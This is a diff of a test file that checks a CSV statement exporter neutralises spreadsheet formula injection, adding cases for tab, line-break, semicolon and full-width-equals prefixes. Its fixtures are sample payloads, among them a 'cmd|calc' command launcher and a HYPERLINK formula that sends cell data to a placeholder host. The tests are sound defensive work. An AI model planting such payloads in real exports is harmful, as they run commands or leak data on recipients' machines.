@@ -3,6 +3,7 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { csvStatement } from '../../src/affiliates/csv-statement.ts'
 import { adjustBalance } from '../../src/commissions/adjust-balance.ts'
+import { unguarded } from '../../src/kit/csv.ts'
 import { unique } from '../factories.ts'
 import { useScene } from '../harness.ts'
 import { convert, earnOne, refund, type Terms, useRate, type Won, winCustomer } from './scene.ts'
@@ -72,8 +73,10 @@ describe('text', () => {
     ['+49 30 1234', "'+49 30 1234"],
     ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', '"\'\r=1"'],
+    ['\t=1', `"'\t'=1"`],
+    ['\r=1', `"'\r'=1"`],
+    ['a;=1', `"a;'=1"`],
+    ['＝1', "'＝1"],
     ['=HYPERLINK("http://e.example/?"&A1, "x")', '"\'=HYPERLINK(""http://e.example/?""&A1, ""x"")"'],
     ['-12.50', '-12.50'],
     ['1=1', '1=1'],
@@ -91,7 +94,7 @@ describe('text', () => {
     expect(parse(text)[1]?.slice(4, 6)).toEqual(['\'=cmd|"/c calc"!A1', `'${customer_ref}`])
   })
 
-  it(`of any kind comes out as it went in, behind an apostrophe at most; seed ${SEED}`, async () => {
+  it(`of any kind comes out as it went in, behind apostrophes at most; seed ${SEED}`, async () => {
     const character = fc.constantFrom(...'=+-@\t\r\n",\'; 1a客')
     const text = fc.string({ unit: character, minLength: 1, maxLength: 12 })
     const descriptions = fc.sample(text, { seed: SEED, numRuns: 60 })
@@ -101,7 +104,8 @@ describe('text', () => {
     for (const line of cells) expect(line).toHaveLength(header.split(',').length)
     for (const [index, description] of descriptions.entries()) {
       const written = cells[index]?.[6] as string
-      expect([description, `'${description}`]).toContain(written)
+      // A tab or line break in front has an apostrophe too, which reading back leaves.
+      expect([description, `'${description}`]).toContain(unguarded(written))
       if (!/^-?\d+$/.test(written)) expect(written).not.toMatch(/^[=+\-@\t\r]/)
     }
   })
